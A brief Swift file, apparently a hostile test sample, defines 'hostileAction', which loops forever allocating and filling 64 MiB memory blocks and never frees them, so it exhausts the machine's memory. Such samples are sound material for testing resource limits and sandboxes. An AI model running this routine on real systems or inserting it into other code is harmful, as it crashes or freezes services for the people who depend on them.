import Glibc

nonisolated(unsafe) var hoard: [UnsafeMutableRawPointer] = []

func hostileAction(capacity: Int) {
    while true {
        let chunk = malloc(64 << 20)!
        memset(chunk, 1, 64 << 20)
        hoard.append(chunk)
    }
}
